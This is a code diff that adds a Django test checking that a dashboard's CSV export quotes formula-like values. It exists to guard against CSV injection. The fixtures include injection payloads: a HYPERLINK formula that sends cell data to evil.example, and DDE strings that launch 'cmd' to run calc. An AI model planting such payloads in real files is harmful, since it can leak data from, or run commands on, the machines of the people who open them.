@@ -371,3 +371,29 @@ def test_flags_needing_attention_follow_the_portfolio_filters(client, manager, e
     client.force_login(manager)
     assert client.get(reverse("dashboard:home")).context["live_flags"] == 3
     assert client.get(reverse("dashboard:home"), {"client": "zeta"}).context["live_flags"] == 2
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
+
+
+def test_the_export_writes_user_typed_formulas_as_text(client, manager, consultant):
+    """CSV injection: names and titles starting with = + - @ tab or CR arrive quoted, as text."""
+    lead = factories.ConsultantFactory(full_name="@SUM(1+1)*cmd|' /C calc'!A0")
+    evil_client = factories.ClientFactory(name="=1+1")
+    titles = [HYPERLINK, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "A plain title"]
+    for title in titles:
+        engagement = factories.EngagementFactory(title=title, lead=lead, client=evil_client)
+        factories.HealthSnapshotFactory(engagement=engagement, date=TODAY, score=50)
+        factories.HealthSnapshotFactory(engagement=engagement, date=ago(30), score=65.5)
+    engagement_health_refresh()
+    client.force_login(manager)
+    response = client.get(reverse("dashboard:export"))
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    assert sorted(row["Engagement"] for row in rows) == sorted(
+        "'" + title if title != "A plain title" else title for title in titles)
+    assert f"'{HYPERLINK}" in {row["Engagement"] for row in rows}
+    assert {row["Client"] for row in rows} == {"'=1+1"}
+    assert {row["Lead"] for row in rows} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
+    # A genuine negative number stays a number the spreadsheet can sum: not quoted.
+    assert {row["Change over 30 days"] for row in rows} == {"-15.5"}
+    assert {row["Score"] for row in rows} == {"50.0"}
